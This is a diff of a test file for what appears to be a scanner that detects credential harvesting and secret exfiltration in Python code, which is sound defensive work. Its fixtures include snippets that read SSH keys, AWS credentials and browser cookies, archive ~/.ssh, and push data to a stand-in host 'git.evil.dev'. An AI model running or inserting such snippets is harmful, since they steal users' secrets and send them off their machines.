@@ -1,16 +1,7 @@
 import { expect, test } from "vitest";
-import { found } from "../test-support/package-of";
+import { found } from "../../test-support/package-of";
 
 const IMPORTS = "import json, os, shutil, tarfile, zipfile\nfrom pathlib import Path\nh = Path.home()\n";
-
-test("finds several secrets in one file, and worse with a browser's", async () => {
-  const keys = 'out = {"a": (h / ".ssh/id_rsa").read_text(), "b": (h / ".aws/credentials").read_text()}';
-  const cookies = '\nout["c"] = open(os.path.expanduser("~/.mozilla/firefox/x/cookies.sqlite"), "rb").read()';
-  const write = '\njson.dump(out, open("/tmp/out.json", "w"))';
-
-  expect(await found("a.py", IMPORTS + keys + write)).toStrictEqual(["warn credential-harvesting:5"]);
-  expect(await found("a.py", IMPORTS + keys + cookies + write)).toStrictEqual(["block credential-harvesting:6"]);
-});
 
 test("follows what was gathered into an archive and away", async () => {
   const code = `${IMPORTS}shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/.ssh"))
@@ -32,12 +23,4 @@ subprocess.run("git remote add backup https://git.evil.dev/x.git && git push bac
 
   expect(await found("a.py", asks)).toContain("block secret-exfiltration:3");
   expect(await found("a.py", pushes)).toContain("block secret-exfiltration:3");
-});
-
-test.each([
-  'shutil.copy(h / ".ssh/config", h / ".ssh/config.bak")',
-  'json.dump({"a": (h / ".aws/credentials").read_text()}, open("/tmp/out.json", "w"))',
-  'open("report.txt", "w").write(str((h / ".ssh").exists() and (h / ".aws").exists()))',
-])("lets through %s", async (code) => {
-  expect(await found("a.py", IMPORTS + code)).toStrictEqual([]);
 });
